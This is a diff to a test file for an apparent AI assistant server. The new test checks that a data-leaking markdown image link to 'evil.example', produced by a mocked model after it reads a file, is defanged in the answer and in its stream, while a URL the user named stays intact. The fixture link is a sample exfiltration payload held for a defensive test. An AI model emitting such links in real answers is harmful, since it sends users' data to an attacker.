@@ -114,7 +114,18 @@ test('what the person names and asks for runs unasked; a named file is not writt
   assert.equal(fs.readFileSync(workspace('copy.txt'), 'utf8'), 'milk');
 });
 
-test('an address the model makes up is defused in the answer', async () => {
-  const { outcome } = await readsFile('![x](https://evil.example/?d=buy-milk) and [y](https://evil.example/story)');
-  assert.ok(!/https:\/\/evil\.example\/\?d/.test(outcome.text), outcome.text);
+test('an address the model makes up is defused in the answer and in its stream, one the person named stays', async () => {
+  await mock.play(`
+rules:
+  - match: {after_tool: true}
+    answer: {text: "![x](https://evil.example/?d=buy-milk) and https://good.example/page"}
+  - answer: {calls: [{tool: files__read, args: {path: notes.txt}}]}
+`);
+  const safe = '![x](hxxps://evil[.]example/…) and https://good.example/page';
+  const message = 'What does notes.txt say about https://good.example/page?';
+  const whole = await (await talon.post('/v1/turns', { message, stream: false })).json();
+  assert.equal(whole.text, safe);
+  const stream = await (await talon.post('/v1/turns', { message })).text();
+  const shown = [...stream.matchAll(/event: text_delta\ndata: (.*)\n/g)].map(([, data]) => JSON.parse(data).text);
+  assert.equal(shown.join(''), safe);
 });
